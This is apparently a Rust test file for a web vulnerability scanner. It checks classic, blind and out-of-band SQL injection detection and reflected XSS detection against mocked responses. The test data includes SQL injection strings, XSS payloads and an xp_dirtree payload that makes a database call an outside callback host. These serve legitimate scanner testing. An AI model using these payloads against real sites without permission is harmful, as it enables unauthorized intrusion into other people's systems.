mod common;

use common::ScriptedFetcher;
use rprobe::config::OobConfig;
use rprobe::oob::{CollectorClient, OobSession};
use rprobe::payloads::{self, BLIND_SQLI_FALSE, BLIND_SQLI_TRUE, CLASSIC_SQLI, XSS};
use rprobe::sqli::{self, BLIND_FALSE_STATUS, BLIND_TRUE_STATUS};
use rprobe::types::{Evidence, ProbeTally};
use rprobe::xss;
use url::Url;

const MYSQL_ERROR: &str = "<html>You have an error in your SQL syntax; check the manual</html>";

fn target() -> Url {
    Url::parse("http://shop.test/item?id=1&sort=asc").unwrap()
}

fn collector_config() -> OobConfig {
    OobConfig {
        collector_url: "http://collector.test/".to_string(),
        callback_suffix: "example.com".to_string(),
    }
}

#[tokio::test]
async fn test_classic_stops_at_first_error_signature() {
    let fetcher = ScriptedFetcher::new().respond(200, MYSQL_ERROR);

    let verdict = sqli::detect_classic(&fetcher, &target(), "id", CLASSIC_SQLI).await;

    assert!(verdict.is_positive());
    assert_eq!(verdict.evidence, Some(Evidence::Payload("'".to_string())));
    assert_eq!(fetcher.call_count(), 1);
    assert_eq!(verdict.tally, ProbeTally { attempted: 1, succeeded: 1, failed: 0 });
    assert_eq!(fetcher.calls()[0].url, "http://shop.test/item?id=%27&sort=asc");
}

#[tokio::test]
async fn test_classic_tries_every_payload_once_when_clean() {
    let fetcher = ScriptedFetcher::new().respond_times(CLASSIC_SQLI.len(), 200, "<html>ok</html>");

    let verdict = sqli::detect_classic(&fetcher, &target(), "id", CLASSIC_SQLI).await;

    assert!(!verdict.is_positive());
    assert_eq!(fetcher.call_count(), CLASSIC_SQLI.len());
    assert_eq!(verdict.tally.succeeded, CLASSIC_SQLI.len());
    assert!(!verdict.tally.all_failed());
}

#[tokio::test]
async fn test_classic_reports_the_triggering_payload() {
    let fetcher = ScriptedFetcher::new()
        .respond(200, "ok")
        .respond(200, "ok")
        .respond(500, "Warning: pg_query(): Query failed");

    let verdict = sqli::detect_classic(&fetcher, &target(), "id", CLASSIC_SQLI).await;

    assert_eq!(verdict.evidence, Some(Evidence::Payload("or 1=1".to_string())));
    assert_eq!(fetcher.call_count(), 3);
}

#[tokio::test]
async fn test_classic_network_errors_do_not_stop_the_loop() {
    let fetcher = ScriptedFetcher::new()
        .fail()
        .fail()
        .respond(200, "Unclosed quotation mark after the character string ''.");

    let verdict = sqli::detect_classic(&fetcher, &target(), "id", CLASSIC_SQLI).await;

    assert_eq!(verdict.evidence, Some(Evidence::Payload("or 1=1".to_string())));
    assert_eq!(verdict.tally, ProbeTally { attempted: 3, succeeded: 1, failed: 2 });
}

#[tokio::test]
async fn test_classic_skips_non_network_errors_too() {
    let fetcher = ScriptedFetcher::new()
        .push(Err(rprobe::ScanError::InvalidInput("malformed request".to_string())))
        .respond(200, MYSQL_ERROR);

    let verdict = sqli::detect_classic(&fetcher, &target(), "id", CLASSIC_SQLI).await;

    assert_eq!(verdict.evidence, Some(Evidence::Payload("\"".to_string())));
    assert_eq!(verdict.tally, ProbeTally { attempted: 2, succeeded: 1, failed: 1 });
}

#[tokio::test]
async fn test_classic_every_probe_failed_is_not_a_clean_negative() {
    let fetcher = ScriptedFetcher::new();

    let verdict = sqli::detect_classic(&fetcher, &target(), "id", CLASSIC_SQLI).await;

    assert!(!verdict.is_positive());
    assert_eq!(fetcher.call_count(), CLASSIC_SQLI.len());
    assert!(verdict.tally.all_failed());
}

#[tokio::test]
async fn test_classic_is_idempotent() {
    let first = ScriptedFetcher::new().respond(200, "ok").respond(200, MYSQL_ERROR);
    let second = ScriptedFetcher::new().respond(200, "ok").respond(200, MYSQL_ERROR);

    let a = sqli::detect_classic(&first, &target(), "id", CLASSIC_SQLI).await;
    let b = sqli::detect_classic(&second, &target(), "id", CLASSIC_SQLI).await;

    assert_eq!(a, b);
}

#[tokio::test]
async fn test_blind_positive_after_exactly_two_fetches() {
    let fetcher = ScriptedFetcher::new()
        .respond(BLIND_TRUE_STATUS, "found")
        .respond(BLIND_FALSE_STATUS, "not found");

    let verdict = sqli::detect_blind(&fetcher, &target(), "id", BLIND_SQLI_TRUE, BLIND_SQLI_FALSE).await;

    assert_eq!(
        verdict.evidence,
        Some(Evidence::PayloadPair {
            true_payload: "1' AND 1=1--".to_string(),
            false_payload: "1' AND 1=2--".to_string(),
        })
    );
    assert_eq!(fetcher.call_count(), 2);

    let calls = fetcher.calls();
    assert!(calls[0].url.contains("id=1%27+AND+1%3D1--"));
    assert!(calls[1].url.contains("id=1%27+AND+1%3D2--"));
}

#[tokio::test]
async fn test_blind_moves_on_when_statuses_match() {
    let fetcher = ScriptedFetcher::new()
        .respond(200, "a")
        .respond(200, "a")
        .respond(200, "a")
        .respond(404, "b");

    let verdict = sqli::detect_blind(&fetcher, &target(), "id", BLIND_SQLI_TRUE, BLIND_SQLI_FALSE).await;

    assert_eq!(
        verdict.evidence,
        Some(Evidence::PayloadPair {
            true_payload: "1' AND SLEEP(3)--".to_string(),
            false_payload: "1' AND SLEEP(0)--".to_string(),
        })
    );
    assert_eq!(fetcher.call_count(), 4);
}

#[tokio::test]
async fn test_blind_skips_false_half_when_true_half_fails() {
    let fetcher = ScriptedFetcher::new()
        .fail()
        .respond(200, "")
        .respond(404, "");

    let verdict = sqli::detect_blind(&fetcher, &target(), "id", BLIND_SQLI_TRUE, BLIND_SQLI_FALSE).await;

    assert!(verdict.is_positive());
    assert_eq!(fetcher.call_count(), 3);
    assert_eq!(verdict.tally, ProbeTally { attempted: 3, succeeded: 2, failed: 1 });
}

#[tokio::test]
async fn test_blind_failed_false_half_skips_the_pair() {
    let fetcher = ScriptedFetcher::new()
        .respond(200, "")
        .fail()
        .respond(200, "")
        .respond(404, "");

    let verdict = sqli::detect_blind(&fetcher, &target(), "id", BLIND_SQLI_TRUE, BLIND_SQLI_FALSE).await;

    assert!(verdict.is_positive());
    assert_eq!(fetcher.call_count(), 4);
    assert_eq!(verdict.tally.failed, 1);
}

#[tokio::test]
async fn test_blind_uses_only_aligned_pairs() {
    let fetcher = ScriptedFetcher::new().respond_times(10, 200, "");

    let verdict = sqli::detect_blind(&fetcher, &target(), "id", &["a", "b", "c"], &["x"]).await;

    assert!(!verdict.is_positive());
    assert_eq!(fetcher.call_count(), 2);
}

#[tokio::test]
async fn test_xss_reflection_is_positive() {
    let body = "<html>...<script>alert('XSS')</script>...</html>";
    let fetcher = ScriptedFetcher::new().respond(200, body);

    let verdict = xss::detect_reflected(&fetcher, &target(), "q", XSS).await;

    assert_eq!(
        verdict.evidence,
        Some(Evidence::Payload("<script>alert('XSS')</script>".to_string()))
    );
    assert_eq!(fetcher.call_count(), 1);
}

#[tokio::test]
async fn test_xss_escaped_output_is_negative() {
    let fetcher = ScriptedFetcher::new().respond_times(
        XSS.len(),
        200,
        "<html>&lt;script&gt;alert(&#39;XSS&#39;)&lt;/script&gt;</html>",
    );

    let verdict = xss::detect_reflected(&fetcher, &target(), "q", XSS).await;

    assert!(!verdict.is_positive());
    assert_eq!(fetcher.call_count(), XSS.len());
}

#[tokio::test]
async fn test_xss_network_error_moves_to_next_payload() {
    let fetcher = ScriptedFetcher::new()
        .fail()
        .respond(200, "<p><img src=x onerror=alert('XSS')></p>");

    let verdict = xss::detect_reflected(&fetcher, &target(), "q", XSS).await;

    assert_eq!(
        verdict.evidence,
        Some(Evidence::Payload("<img src=x onerror=alert('XSS')>".to_string()))
    );
    assert_eq!(verdict.tally, ProbeTally { attempted: 2, succeeded: 1, failed: 1 });
}

#[test]
fn test_is_reflected_requires_exact_substring() {
    assert!(xss::is_reflected("a<svg onload=alert('XSS')>b", "<svg onload=alert('XSS')>"));
    assert!(!xss::is_reflected("<SVG ONLOAD=alert('XSS')>", "<svg onload=alert('XSS')>"));
    assert!(!xss::is_reflected("anything", ""));
}

#[tokio::test]
async fn test_out_of_band_confirms_through_collector() {
    let session = OobSession::new("bin123", "secret-key", "probe").unwrap();
    let host = session.callback_host("example.com");
    let oob_payloads = payloads::out_of_band_sqli(&host);

    let fetcher = ScriptedFetcher::new()
        .respond(200, "target")
        .respond(200, "[]")
        .respond(200, "target")
        .respond(200, r#"[{"method":"GET","path":"/"}]"#);

    let config = collector_config();
    let collector = CollectorClient::new(&fetcher, &config);
    let verdict =
        sqli::detect_out_of_band(&fetcher, &collector, &session, &target(), "id", &oob_payloads).await;

    assert_eq!(verdict.evidence, Some(Evidence::Payload(oob_payloads[1].clone())));
    assert_eq!(fetcher.call_count(), 4);
    assert_eq!(verdict.tally, ProbeTally { attempted: 2, succeeded: 2, failed: 0 });

    let poll = &fetcher.calls()[1];
    assert_eq!(poll.url, "http://collector.test/v1/bins/bin123/requests");
    assert_eq!(poll.headers, vec![("X-Master-Key".to_string(), "secret-key".to_string())]);
}

#[tokio::test]
async fn test_out_of_band_skips_poll_when_target_fetch_fails() {
    let session = OobSession::new("bin123", "secret-key", "probe").unwrap();
    let oob_payloads = payloads::out_of_band_sqli("probe.example.com");

    let fetcher = ScriptedFetcher::new()
        .fail()
        .respond(200, "target")
        .respond(200, "[1]");

    let config = collector_config();
    let collector = CollectorClient::new(&fetcher, &config);
    let verdict =
        sqli::detect_out_of_band(&fetcher, &collector, &session, &target(), "id", &oob_payloads).await;

    assert_eq!(verdict.evidence, Some(Evidence::Payload(oob_payloads[1].clone())));
    assert_eq!(fetcher.call_count(), 3);
    assert_eq!(verdict.tally.failed, 1);
}

#[tokio::test]
async fn test_out_of_band_collector_errors_are_not_confirmation() {
    let session = OobSession::new("bin123", "secret-key", "probe").unwrap();

    let fetcher = ScriptedFetcher::new()
        .respond(200, "target")
        .respond(500, "internal error")
        .respond(200, "target")
        .respond(200, "not json");

    let config = collector_config();
    let collector = CollectorClient::new(&fetcher, &config);
    let verdict = sqli::detect_out_of_band(
        &fetcher,
        &collector,
        &session,
        &target(),
        "id",
        &["first", "second"],
    )
    .await;

    assert!(!verdict.is_positive());
    assert_eq!(fetcher.call_count(), 4);
    assert_eq!(verdict.tally.succeeded, 2);
}

#[tokio::test]
async fn test_collector_error_classification() {
    let session = OobSession::new("bin123", "secret-key", "probe").unwrap();
    let config = collector_config();

    let fetcher = ScriptedFetcher::new().respond(401, "unauthorized").respond(200, "{}");
    let collector = CollectorClient::new(&fetcher, &config);

    let status_error = collector.has_callbacks(&session).await.unwrap_err();
    assert!(status_error.is_network());

    let body_error = collector.has_callbacks(&session).await.unwrap_err();
    assert!(body_error.is_network());
}

#[test]
fn test_oob_session_validation() {
    assert!(OobSession::new("", "key", "probe").is_err());
    assert!(OobSession::new("bin", "  ", "probe").is_err());

    let session = OobSession::new(" bin ", "key", "probe.").unwrap();
    assert_eq!(session.bin_id, "bin");
    assert_eq!(session.callback_host("example.com"), "probe.example.com");
    assert_eq!(session.callback_host(""), "probe");
}

#[test]
fn test_out_of_band_payloads_embed_callback_host() {
    let payloads = payloads::out_of_band_sqli("probe.example.com");
    assert_eq!(payloads[0], "1'; EXEC xp_dirtree 'http://probe.example.com';--");
    assert!(payloads.iter().all(|p| p.contains("probe.example.com")));
}
